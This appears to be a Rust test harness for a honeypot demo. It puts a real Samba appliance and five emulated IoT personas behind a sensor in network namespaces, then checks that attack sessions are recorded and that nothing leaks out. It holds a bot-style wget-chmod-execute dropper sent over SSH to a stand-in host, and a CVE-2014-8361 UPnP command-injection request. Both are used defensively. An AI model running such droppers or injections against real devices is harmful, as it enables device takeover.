//! The second part of the threat demo: a real appliance (Debian's Samba, a few pages and UPnP) behind a sensor that also
//! shows five personas, each at an address of its own, in three network namespaces: strangers, the sensor, the
//! appliance. Ordinary clients visit; then the appliance behaves as if it were taken over, and nothing of that gets out.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use anyhow::{Context, ensure};
use serde_json::Value;

use super::{describe, find_artifact, items, records};
use crate::programs::{Program, run_to_end, wait_until};
use crate::steps::Steps;
use crate::{relay, tools, workspace};

/// An unoptimised program on a busy machine takes a while to make its personas' keys.
const START_LIMIT: Duration = Duration::from_secs(60);
/// How long a record may take from the packet to the file.
const RECORD_LIMIT: Duration = Duration::from_secs(20);
const LOOK_PAUSE: Duration = Duration::from_millis(200);

const STRANGER: &str = "198.51.100.7";
const SENSOR: &str = "198.51.100.1";
/// Somebody whom the appliance has no reason to know.
const THIRD_PARTY: &str = "203.0.113.99";
const APPLIANCE: &str = "192.168.77.2";
const GATEWAY: &str = "192.168.77.1";
/// The address by which strangers know the appliance.
const APPLIANCE_PUBLIC: &str = "198.51.100.20";
const PERSONAS: [(&str, &str); 5] = [
    ("camera", "198.51.100.11"),
    ("router", "198.51.100.12"),
    ("nas", "198.51.100.13"),
    ("intercom", "198.51.100.14"),
    ("recorder", "198.51.100.15"),
];

/// What a stranger leaves on shares.
const LEFT: &str = "a harmless file of the demo, left on a share\n";

/// Whatever of the appliance would reach the strangers is counted.
const LEAKS: &str = "table inet leaks {
    counter leaked { }
    chain incoming {
        type filter hook prerouting priority raw; policy accept;
        ip saddr 192.168.0.0/16 counter name \"leaked\"
        ip daddr 203.0.113.0/24 counter name \"leaked\"
    }
}
";

/// Why this part cannot be performed here, if it cannot.
pub(crate) fn impossible() -> Option<String> {
    relay::impossible().or_else(|| tools::need_appliance().err().map(|missing| format!("{missing:#}")))
}

/// Performs it; succeeds only if everything that was done is in the records, and nothing got out.
pub(crate) fn perform(steps: &mut Steps, folder: &Path) -> anyhow::Result<()> {
    let mut scene = steps.step("three networks: strangers, a sensor, and behind it a real appliance", |notes| {
        let scene = Scene::new(folder)?;
        notes.show(format!("Samba, pages and UPnP at {APPLIANCE}; strangers call it {APPLIANCE_PUBLIC}"));
        Ok(scene)
    })?;
    steps.step("the sensor relays the appliance and shows five personas beside it", |notes| {
        scene.start_sensor()?;
        let is_door = |line: &&str| line.starts_with("  ") && line.contains("198.51.100.");
        let doors = scene.sensor().output().lines().filter(is_door).count();
        notes.show(format!("{doors} ports are open"));
        Ok(())
    })?;
    steps.step("strangers come with telnet, ssh, smbclient, curl, upnpc, redis-cli and nmap", |notes| {
        notes.show(scene.visit()?);
        Ok(())
    })?;
    steps.step("the sensor finds the file in the appliance's shared folder, and who brought it", |notes| {
        let path = scene.log("honeypot.json");
        let found = wait_until("the file in the share", RECORD_LIMIT, LOOK_PAUSE, || {
            let lines = records(&path)?;
            Ok(lines.iter().find(|line| line["share"]["path"] == "share/left.txt").cloned())
        })?;
        let source = &found["share"]["source"][0];
        ensure!(source == STRANGER, "the file is said to come from {source}");
        notes.show(format!("share/left.txt is {}, from {source}", found["share"]["change"]));
        Ok(())
    })?;
    steps.step("the appliance does what a bot does: other people's Telnet, pages, datagrams", |notes| {
        notes.show(scene.misbehave()?);
        Ok(())
    })?;
    steps.step("no packet of it got out, and each attempt is written down", |notes| {
        ensure!(scene.leaked()? == 0, "{} packets of the appliance reached strangers", scene.leaked()?);
        let path = scene.log("honeypot.json");
        let (egress, incidents) = wait_until("what the appliance tried", RECORD_LIMIT, LOOK_PAUSE, || {
            let lines = records(&path)?;
            let of = |event_type: &str| lines.iter().filter(|line| line["event_type"] == event_type).count();
            Ok((of("egress") >= 3 && of("incident") >= 1).then(|| (of("egress"), of("incident"))))
        })?;
        notes.show(format!("0 packets leaked; {egress} attempts recorded, {incidents} incident"));
        Ok(())
    })?;
    steps.step("the sensor stops; every session is there, real and emulated in the same terms", |notes| {
        let status = scene.sensor().stop()?;
        ensure!(status.success(), "the sensor ended with {status}");
        let lines = records(&scene.log("honeypot.json"))?;
        let sessions: Vec<&Value> = lines.iter().filter(|line| line["event_type"] == "honeypot").collect();
        for session in sessions.iter().filter(|session| items(session, "auth").next().is_some() || is_real(session)) {
            notes.show(format!("{:<10} {:<16} {}", target(session), label(session), describe(session)));
        }
        check(&sessions)?;
        Ok(())
    })?;
    steps.step("counted by target, protocol and label", |notes| {
        let lines = records(&scene.log("honeypot.json"))?;
        let mut counts: BTreeMap<(String, String, String), u32> = BTreeMap::new();
        for session in lines.iter().filter(|line| line["event_type"] == "honeypot") {
            let protocol = session["app_proto"].as_str().unwrap_or("-").to_owned();
            *counts.entry((target(session), protocol, label(session))).or_default() += 1;
        }
        for ((target, protocol, label), count) in counts {
            notes.show(format!("{count:>4}  {target:<10} {protocol:<8} {label}"));
        }
        Ok(())
    })?;
    steps.step("what was left on the shares comes out as it was", |notes| {
        let is_kept = find_artifact(&scene.file("data"), scene.folder.path(), LEFT)?;
        ensure!(is_kept, "the file that was left on a share is not kept");
        notes.show("the same file, left on a persona's share and on the appliance's, is one artifact");
        Ok(())
    })?;
    scene.keep_records(folder)
}

/// What has to be in the records.
fn check(sessions: &[&Value]) -> anyhow::Result<()> {
    let of = |name: &str, protocol: &str| {
        sessions.iter().filter(|session| target(session) == name && session["app_proto"] == protocol).count()
    };
    for (name, protocol) in [
        ("camera", "telnet"),
        ("camera", "http"),
        ("router", "ssh"),
        ("router", "http"),
        ("nas", "smb"),
        ("nas", "redis"),
        ("parlour", "smb"),
        ("parlour", "http"),
    ] {
        ensure!(of(name, protocol) > 0, "no session of {protocol} with {name} is recorded");
    }
    let is = |name: &str, protocol: &str, wanted: &str| {
        let mut found = sessions.iter().filter(|session| target(session) == name && session["app_proto"] == protocol);
        found.any(|session| label(session) == wanted)
    };
    for (name, protocol, wanted) in [
        ("camera", "telnet", "dropper"),
        ("router", "http", "exploit"),
        ("router", "ssh", "dropper"),
        ("parlour", "smb", "dropper"),
    ] {
        ensure!(is(name, protocol, wanted), "no session of {protocol} with {name} is called {wanted}");
    }
    for session in sessions.iter().filter(|session| is_real(session)) {
        ensure!(session["src_ip"] == STRANGER, "the stranger's address is not kept: {}", session["src_ip"]);
    }
    Ok(())
}

fn is_real(session: &Value) -> bool {
    session["honeypot"]["target"]["kind"] == "real"
}

/// The name of what was attacked.
fn target(session: &Value) -> String {
    let target = &session["honeypot"]["target"];
    target["device"].as_str().or(target["persona"].as_str()).unwrap_or("?").to_owned()
}

fn label(session: &Value) -> String {
    session["honeypot"]["label"].as_str().unwrap_or("?").to_owned()
}

/// A network namespace that goes when it is dropped.
struct Namespace {
    name: String,
}

impl Namespace {
    fn new(role: &str) -> anyhow::Result<Self> {
        let name = format!("komainu-{}-{role}", std::process::id());
        run_to_end(Command::new("ip").args(["netns", "add", &name]))?;
        let namespace = Self { name };
        namespace.ip(&["link", "set", "lo", "up"])?;
        Ok(namespace)
    }

    fn ip(&self, arguments: &[&str]) -> anyhow::Result<()> {
        run_to_end(Command::new("ip").args(["-n", &self.name]).args(arguments)).map(drop)
    }

    /// A program in it.
    fn command(&self, program: impl AsRef<Path>) -> Command {
        let mut command = Command::new("ip");
        command.args(["netns", "exec", &self.name]).arg(program.as_ref());
        command
    }
}

impl Drop for Namespace {
    fn drop(&mut self) {
        let _ = run_to_end(Command::new("ip").args(["netns", "del", &self.name]));
    }
}

/// The three parties. Programs are dropped, and with that killed, before their namespaces are.
struct Scene {
    sensor: Option<Program>,
    /// The appliance's programs.
    _appliance: Vec<Program>,
    strangers: Namespace,
    middle: Namespace,
    inside: Namespace,
    /// Where the process that meets strangers can come, who is nobody. Removed at the end.
    folder: tempfile::TempDir,
    logs: PathBuf,
}

impl Scene {
    fn new(logs: &Path) -> anyhow::Result<Self> {
        let folder = tempfile::tempdir().context("cannot make a folder")?;
        fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o755)).context("cannot open the folder")?;
        let (strangers, middle, inside) =
            (Namespace::new("strangers")?, Namespace::new("sensor")?, Namespace::new("inside")?);
        wire(&strangers, &middle, &inside)?;
        let appliance = start_appliance(&inside, folder.path(), logs)?;
        Ok(Self { sensor: None, _appliance: appliance, strangers, middle, inside, folder, logs: logs.to_owned() })
    }

    fn file(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn log(&self, name: &str) -> PathBuf {
        self.file("data").join("sensor").join(name)
    }

    fn start_sensor(&mut self) -> anyhow::Result<()> {
        let inventory = format!(
            "[[device]]\nname = \"parlour\"\nmaker = \"Demo Works\"\nmodel = \"DW-R4\"\ntype = \"recorder\"\n\
             release_state = \"pre_release\"\naddress = \"{APPLIANCE}\"\ninterface = \"inner\"\n\
             outer_interface = \"outer\"\npublic_address = \"{APPLIANCE_PUBLIC}\"\negress = \"sinkhole_all\"\n\
             ports = [\n    {{ port = 80, transport = \"tcp\" }},\n    {{ port = 445, transport = \"tcp\" }},\n    \
             {{ port = 1900, transport = \"udp\" }},\n]\n\n[device.share]\nname = \"share\"\ninterval_s = 5\n"
        );
        let personas: Vec<String> = PERSONAS.iter().map(|(name, address)| format!("\"{name}@{address}\"")).collect();
        let devices = self.file("devices.toml");
        let settings = format!(
            "[sensor]\nid = \"demo\"\npersonas = [{}]\ndevices = \"{}\"\n",
            personas.join(", "),
            devices.display()
        );
        let configuration = self.file("komainu.toml");
        for (path, text) in [(&devices, inventory), (&configuration, settings)] {
            fs::write(path, text).with_context(|| format!("cannot write {}", path.display()))?;
        }
        let mut command = self.middle.command(workspace::komainu());
        command.arg("sensor").arg("--data").arg(self.file("data")).arg("--config").arg(&configuration);
        let mut program = Program::start("sensor-relay", &mut command, &self.logs)?;
        program.wait_for("the sensor's ports", START_LIMIT, |output| {
            output.lines().any(|line| line == "ready").then_some(())
        })?;
        self.sensor = Some(program);
        Ok(())
    }

    fn sensor(&mut self) -> &mut Program {
        self.sensor.as_mut().expect("the sensor is started in the second step")
    }

    /// Ordinary clients do harmless things; what they show, shortly.
    fn visit(&self) -> anyhow::Result<String> {
        let left = self.file("left.txt");
        fs::write(&left, LEFT).with_context(|| format!("cannot write {}", left.display()))?;
        let put = format!("put {} left.txt; ls", left.display());
        let [camera, router, nas] = [PERSONAS[0].1, PERSONAS[1].1, PERSONAS[2].1];
        let mut shown = String::new();
        let mut visit = |program: &str, arguments: &[&str]| -> anyhow::Result<()> {
            let said = run_to_end(self.strangers.command(program).args(arguments))?;
            let first = said.lines().map(str::trim).find(|line| !line.is_empty()).unwrap_or("-");
            shown += &format!("{program}: {}\n", first.chars().take(90).collect::<String>());
            Ok(())
        };
        let attacker = workspace::root().join("demo/attacker.py");
        let python = tools::python()?;
        visit(&python.to_string_lossy(), &[&attacker.to_string_lossy(), "--address", camera, "--port", "23"])?;
        let quiet = ["--silent", "--show-error", "--max-time", "30"];
        visit("curl", &[&quiet[..], &[&format!("http://{camera}/")]].concat())?;
        // The path that CVE-2014-8361 is reached by, with a word that does nothing.
        let soap = ["--data", "<NewInternalClient>`harmless`</NewInternalClient>", "--header"];
        let action = "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping";
        let page = format!("http://{router}:49152/wanipcn.xml");
        visit("curl", &[&quiet[..], &soap, &[action, &page]].concat())?;
        let ssh = [
            "-p",
            "admin",
            "ssh",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "LogLevel=ERROR",
        ];
        let commands =
            "cat /proc/cpuinfo; cd /tmp && wget http://192.0.2.1/demo.mips; chmod 777 demo.mips; ./demo.mips";
        // What is not fetched cannot be run: the last command fails, as it has to.
        visit("sshpass", &[&ssh[..], &[&format!("root@{router}"), &format!("{commands}; true")]].concat())?;
        visit("smbclient", &["-N", &format!("//{nas}/public"), "-c", &put])?;
        visit("smbclient", &["-N", &format!("//{APPLIANCE_PUBLIC}/share"), "-c", &put])?;
        visit("curl", &[&quiet[..], &[&format!("http://{APPLIANCE_PUBLIC}/")]].concat())?;
        visit("upnpc", &["-u", &format!("http://{router}:49152/gatedesc.xml"), "-s"])?;
        visit("redis-cli", &["-h", nas, "info", "server"])?;
        visit("nmap", &["-n", "-Pn", "-p", "445", "--script", "smb-protocols", APPLIANCE_PUBLIC])?;
        visit("nmap", &["-n", "-Pn", "-p", "80", "--script", "http-title", PERSONAS[3].1])?;
        Ok(shown)
    }

    fn misbehave(&self) -> anyhow::Result<String> {
        let script = workspace::root().join("demo/appliance.py");
        run_to_end(self.inside.command(tools::python()?).arg(script).args(["--misbehave", THIRD_PARTY]))
    }

    /// Packets of the appliance that reached strangers.
    fn leaked(&self) -> anyhow::Result<u64> {
        let listed =
            run_to_end(self.strangers.command("nft").args(["-j", "list", "counter", "inet", "leaks", "leaked"]))?;
        let listed: Value = serde_json::from_str(&listed).context("nft shows no JSON")?;
        let counters = listed["nftables"].as_array().context("nft shows no counters")?;
        counters.iter().find_map(|one| one["counter"]["packets"].as_u64()).context("the counter is gone")
    }

    /// Copies the event logs to where the demo's user finds them.
    fn keep_records(&self, folder: &Path) -> anyhow::Result<()> {
        for name in ["eve.json", "honeypot.json"] {
            let to = folder.join(format!("appliance-{name}"));
            fs::copy(self.log(name), &to).with_context(|| format!("cannot write {}", to.display()))?;
        }
        Ok(())
    }
}

/// Joins strangers, sensor and appliance with cables.
fn wire(strangers: &Namespace, middle: &Namespace, inside: &Namespace) -> anyhow::Result<()> {
    let cable = |one: &Namespace, end: &str, other: &Namespace, others: &str| {
        let peer = ["type", "veth", "peer", "name", others, "netns", &other.name];
        run_to_end(Command::new("ip").args(["link", "add", end, "netns", &one.name]).args(peer))
    };
    cable(strangers, "street", middle, "outer")?;
    cable(inside, "wall", middle, "inner")?;
    strangers.ip(&["addr", "add", &format!("{STRANGER}/24"), "dev", "street"])?;
    strangers.ip(&["addr", "add", &format!("{THIRD_PARTY}/32"), "dev", "lo"])?;
    let personas = PERSONAS.iter().map(|(_, address)| *address);
    for address in [SENSOR, APPLIANCE_PUBLIC].into_iter().chain(personas) {
        middle.ip(&["addr", "add", &format!("{address}/24"), "dev", "outer"])?;
    }
    middle.ip(&["addr", "add", &format!("{GATEWAY}/24"), "dev", "inner"])?;
    inside.ip(&["addr", "add", &format!("{APPLIANCE}/24"), "dev", "wall"])?;
    for (namespace, interface) in [(strangers, "street"), (middle, "outer"), (middle, "inner"), (inside, "wall")] {
        namespace.ip(&["link", "set", interface, "up"])?;
    }
    // There is a way to everybody: what does not get out is held, not lost.
    strangers.ip(&["route", "add", "default", "via", SENSOR])?;
    middle.ip(&["route", "add", "default", "via", STRANGER])?;
    inside.ip(&["route", "add", "default", "via", GATEWAY])?;
    // The process that meets strangers has no rights, and personas have ports that need one.
    run_to_end(middle.command("sysctl").args(["-q", "-w", "net.ipv4.ip_unprivileged_port_start=0"]))?;
    let mut nft = strangers.command("nft");
    let rules = tempfile::NamedTempFile::new().context("cannot make a file")?;
    fs::write(rules.path(), LEAKS).context("cannot write rules")?;
    run_to_end(nft.arg("-f").arg(rules.path())).map(drop)
}

/// Starts the appliance: Samba of Debian's, and a script of ours for its pages and UPnP.
fn start_appliance(inside: &Namespace, folder: &Path, logs: &Path) -> anyhow::Result<Vec<Program>> {
    let home = folder.join("samba");
    let share = folder.join("share");
    for folder in [&home, &share] {
        fs::create_dir(folder).with_context(|| format!("cannot make {}", folder.display()))?;
    }
    fs::set_permissions(&share, fs::Permissions::from_mode(0o777)).context("cannot open the share")?;
    let folders: String = ["private dir", "lock directory", "state directory", "cache directory", "pid directory"]
        .iter()
        .chain(&["ncalrpc dir"])
        .map(|key| format!("{key} = {}\n", home.display()))
        .collect();
    let settings = format!(
        "[global]\nserver role = standalone server\nmap to guest = bad user\nguest account = nobody\n\
         server min protocol = NT1\nload printers = no\ndisable spoolss = yes\nlog file = {}/log\n{folders}\
         [share]\npath = {}\nguest ok = yes\nread only = no\n",
        home.display(),
        share.display()
    );
    let configuration = home.join("smb.conf");
    fs::write(&configuration, settings).with_context(|| format!("cannot write {}", configuration.display()))?;
    let mut smbd = inside.command("smbd");
    smbd.args(["--foreground", "--no-process-group", "--debug-stdout", "-s"]).arg(&configuration);
    let samba = Program::start("samba", &mut smbd, logs)?;
    let mut pages = inside.command(tools::python()?);
    pages.arg(workspace::root().join("demo/appliance.py")).args(["--public", APPLIANCE_PUBLIC]);
    let mut pages = Program::start("appliance", &mut pages, logs)?;
    pages.wait_for("the appliance's pages", START_LIMIT, |output| {
        output.lines().any(|line| line == "ready").then_some(())
    })?;
    wait_until("the appliance's share", START_LIMIT, LOOK_PAUSE, || {
        let mut list = inside.command("smbclient");
        Ok(run_to_end(list.args(["-N", "-L", "127.0.0.1"])).ok())
    })?;
    Ok(vec![samba, pages])
}
